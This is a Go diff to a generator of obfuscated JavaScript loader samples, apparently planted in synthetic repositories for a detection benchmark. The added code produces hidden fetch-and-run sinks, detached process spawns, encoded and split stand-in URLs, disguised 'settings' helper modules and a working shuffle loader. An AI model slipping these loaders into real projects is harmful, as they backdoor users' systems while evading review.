@@ -4,6 +4,8 @@ import (
 	"encoding/base64"
 	"encoding/hex"
 	"fmt"
+	"path"
+	"path/filepath"
 	"strconv"
 	"strings"
 )
@@ -59,13 +61,21 @@ func (g *gen) ident(s ...string) string { return g.pick(s) }
 // expression named arg, to body. esm picks forms that work in an ES
 // module (no require).
 func (g *gen) fetchThen(urlExpr string, esm bool, arg, body string) string {
-	if esm || g.rng.IntN(3) == 0 {
-		return fmt.Sprintf("fetch(%s)\n  .then((r) => r.text())\n  .then((%s) => {\n    %s\n  })\n  .catch(() => console.log(%q));", urlExpr, arg, body, g.pick(quietLogs))
+	log := g.pick(quietLogs)
+	if esm || g.rng.IntN(4) == 0 {
+		return fmt.Sprintf("fetch(%s)\n  .then((r) => r.text())\n  .then((%s) => {\n    %s\n  })\n  .catch(() => console.log(%q));", urlExpr, arg, body, log)
 	}
-	if g.rng.IntN(4) == 0 {
+	switch g.rng.IntN(6) {
+	case 0:
 		return fmt.Sprintf("require('https').get(%s, (r) => {\n  let %s = '';\n  r.on('data', (c) => (%s += c));\n  r.on('end', () => {\n    %s\n  });\n}).on('error', () => {});", urlExpr, arg, arg, body)
+	case 1:
+		return fmt.Sprintf("require('got')(%s)\n  .text()\n  .then((%s) => {\n    %s\n  })\n  .catch(() => console.log(%q));", urlExpr, arg, body, log)
+	case 2:
+		return fmt.Sprintf("const nodeFetch = require('node-fetch');\nnodeFetch(%s)\n  .then((r) => r.text())\n  .then((%s) => {\n    %s\n  })\n  .catch(() => console.log(%q));", urlExpr, arg, body, log)
+	case 3:
+		return fmt.Sprintf("require('request')(%s, (err, res, %s) => {\n  if (!err && res.statusCode === 200) {\n    %s\n  }\n});", urlExpr, arg, body)
 	}
-	return fmt.Sprintf("require('axios')\n  .get(%s)\n  .then((res) => {\n    const %s = res.data;\n    %s\n  })\n  .catch(() => console.log(%q));", urlExpr, arg, body, g.pick(quietLogs))
+	return fmt.Sprintf("require('axios')\n  .get(%s)\n  .then((res) => {\n    const %s = res.data;\n    %s\n  })\n  .catch(() => console.log(%q));", urlExpr, arg, body, log)
 }
 
 // requirePrelude gives ES modules a require, as a loader needs one.
@@ -75,17 +85,40 @@ const requirePrelude = "const require = (await import('node:module')).createRequ
 func (g *gen) sink(t Technique, v string) string {
 	switch t {
 	case RemoteNewFunction:
-		return "new Function(" + v + ")();"
+		return g.pick([]string{
+			"new Function(" + v + ")();",
+			"Function(" + v + ")();",
+			"Reflect.construct(Function, [" + v + "])();",
+		})
 	case FunctionConstructor:
-		return "new (Function.constructor)('require', " + v + ")(require);"
+		return g.pick([]string{
+			"new (Function.constructor)('require', " + v + ")(require);",
+			"const F = Function.constructor;\n    new F('require', " + v + ")(require);",
+			"[]['constructor']['constructor']('require', " + v + ")(require);",
+		})
 	case FunctionRequire:
 		return "new Function('require', " + v + ")(require);"
 	case RemoteVM:
-		return "require('vm').runInThisContext(" + v + ");"
+		return g.pick([]string{
+			"require('vm').runInThisContext(" + v + ");",
+			"new (require('vm').Script)(" + v + ").runInThisContext();",
+			"require('vm').runInNewContext(" + v + ", { require, process, Buffer });",
+		})
 	case RemoteChildProcess:
-		return "require('child_process').exec(" + v + ", { windowsHide: true }, () => {});"
+		return g.pick([]string{
+			"require('child_process').exec(" + v + ", { windowsHide: true }, () => {});",
+			"require('child_process').spawn('sh', ['-c', " + v + "], { detached: true, stdio: 'ignore' }).unref();",
+			// Write the answer to a file and run it detached, as the
+			// InvisibleFerret stage does.
+			"const p = require('path').join(require('os').tmpdir(), '.npl');\n    require('fs').writeFileSync(p, " + v + ");\n    require('child_process').spawn(process.execPath, [p], { detached: true, stdio: 'ignore' }).unref();",
+		})
 	}
-	return g.pick([]string{"eval(" + v + ");", "(0, eval)(" + v + ");"})
+	return g.pick([]string{
+		"eval(" + v + ");",
+		"(0, eval)(" + v + ");",
+		"const run = eval;\n    run(" + v + ");",
+		"globalThis['ev' + 'al'](" + v + ");",
+	})
 }
 
 func needsRequire(code string) bool { return strings.Contains(code, "require") }
@@ -124,6 +157,8 @@ func (g *gen) payload(t Technique, esm bool) string {
 	case EncodedURL:
 		expr := g.encodedURL(u, esm)
 		code = g.fetchThen(expr, esm, arg, g.sink(RemoteEval, arg))
+	case ShuffleLoader:
+		code = g.shuffleLoader(u)
 	case StealerPaths:
 		code = g.stealer(esm)
 	case EnvExfil:
@@ -139,7 +174,7 @@ func (g *gen) payload(t Technique, esm bool) string {
 
 // encodedURL hides u in a literal the way the loaders do.
 func (g *gen) encodedURL(u string, esm bool) string {
-	switch g.rng.IntN(4) {
+	switch g.rng.IntN(6) {
 	case 0:
 		g.variant = "base64"
 		b := base64.StdEncoding.EncodeToString([]byte(u))
@@ -157,6 +192,20 @@ func (g *gen) encodedURL(u string, esm bool) string {
 			return fmt.Sprintf("new TextDecoder().decode(Uint8Array.from(%q.match(/../g).map((h) => parseInt(h, 16))))", hex.EncodeToString([]byte(u)))
 		}
 		return fmt.Sprintf("Buffer.from(%q, 'hex').toString('utf8')", hex.EncodeToString([]byte(u)))
+	case 4:
+		g.variant = "xor-index"
+		key := []byte{byte(1 + g.rng.IntN(250)), byte(1 + g.rng.IntN(250)), byte(1 + g.rng.IntN(250))}
+		enc := make([]string, len(u))
+		for i := range len(u) {
+			enc[i] = strconv.Itoa(int(u[i] ^ key[i%len(key)] ^ byte(i%256)))
+		}
+		return fmt.Sprintf("((d, k) => String.fromCharCode(...d.map((c, i) => c ^ k[i %% k.length] ^ (i %% 256))))([%s], [%d, %d, %d])",
+			strings.Join(enc, ", "), key[0], key[1], key[2])
+	case 5:
+		// The host split into parts and put back in another order.
+		g.variant = "split-ip"
+		parts := []string{"203.0", "113.47", ":1224", "/client/3/726"}
+		return fmt.Sprintf("((p) => 'http://' + p[1] + '.' + p[3] + p[0] + p[2])([%q, %q, %q, %q])", parts[2], parts[0], parts[3], parts[1])
 	default:
 		g.variant = "char-codes"
 		codes := make([]string, len(u))
@@ -303,4 +352,71 @@ func oneLine(p string) string {
 		lines[i] = strings.TrimSpace(l)
 	}
 	return strings.Join(lines, "")
+}
+
+// crossFile writes a helper module that fetches the stage and returns the
+// code that, at the location, imports it and runs the answer: the sink and
+// the source sit in two files, one import apart.
+func (g *gen) crossFile(file string, esm bool, trig string) string {
+	name := g.pick([]string{"settings", "telemetry", "config", "ipcheck"})
+	fn := g.pick([]string{"getSettings", "loadRemoteConfig", "checkLicense", "syncProfile"})
+	dir := "lib"
+	if strings.HasPrefix(file, "server/") {
+		dir = "server/utils"
+	}
+	helper := dir + "/" + name + ".cjs"
+	u := g.url()
+	g.repo[helper] = fmt.Sprintf(`const axios = require('axios');
+
+// Fetches the runtime settings the service needs at start.
+async function %s() {
+  const res = await axios.get(%q, { headers: { 'x-client': 'web' } });
+  return res.data;
+}
+
+module.exports = { %s };
+`, fn, u, fn)
+	g.mark(helper, 5, trig, false, "fetches the code the importer runs")
+	rel, err := filepath.Rel(path.Dir(file), helper)
+	if err != nil {
+		rel = helper
+	}
+	rel = filepath.ToSlash(rel)
+	if !strings.HasPrefix(rel, ".") {
+		rel = "./" + rel
+	}
+	imp := fmt.Sprintf("const { %s } = require(%q);\n", fn, rel)
+	if esm {
+		imp = fmt.Sprintf("const { %s } = (await import(%q)).default;\n", fn, rel)
+	}
+	return imp + fmt.Sprintf("%s()\n  .then((body) => {\n    %s\n  })\n  .catch(() => {});", fn, g.sink(g.pickSink(), "body"))
+}
+
+// shuffleLoader writes a PolinRider-shaped loader: the stage code, its
+// characters shuffled by a seeded sequence of swaps, is put back in
+// order at run time and run through Function with require handed over in
+// a global. The shuffle is real: run, it restores the code.
+func (g *gen) shuffleLoader(u string) string {
+	inner := fmt.Sprintf("global['r']('axios').get(%q).then(function(res){eval(res.data)}).catch(function(){});", u)
+	seed := 1000 + g.rng.IntN(3000000)
+	n := len(inner)
+	// The swaps JavaScript will do, in order, computed as it will.
+	type swap struct{ q, y int }
+	swaps := make([]swap, n)
+	sd := seed
+	for i := range n {
+		j := sd*(i+123) + sd%19391
+		w := sd*(i+511) + sd%18031
+		swaps[i] = swap{j % n, w % n}
+		sd = (j + w) % 3731049
+	}
+	// Undo them, last first, to get the string to ship.
+	b := []byte(inner)
+	for i := n - 1; i >= 0; i-- {
+		b[swaps[i].q], b[swaps[i].y] = b[swaps[i].y], b[swaps[i].q]
+	}
+	v := fmt.Sprintf("_$_%04x", g.rng.IntN(0x10000))
+	tag := fmt.Sprintf("%d-%d-%d", 1+g.rng.IntN(9), 1+g.rng.IntN(9), 100+g.rng.IntN(900))
+	return fmt.Sprintf("global['_V']='%s';global['r']=require;var %s=(function(m,s){var l=m.length;var o=[];for(var i=0;i<l;i++){o[i]=m.charAt(i)};for(var i=0;i<l;i++){var j=s*(i+123)+(s%%19391);var w=s*(i+511)+(s%%18031);var q=j%%l;var y=w%%l;var b=o[q];o[q]=o[y];o[y]=b;s=(j+w)%%3731049;};return o.join('')})(%s,%d);Function(%s)();",
+		tag, v, strconv.Quote(string(b)), seed, v)
 }
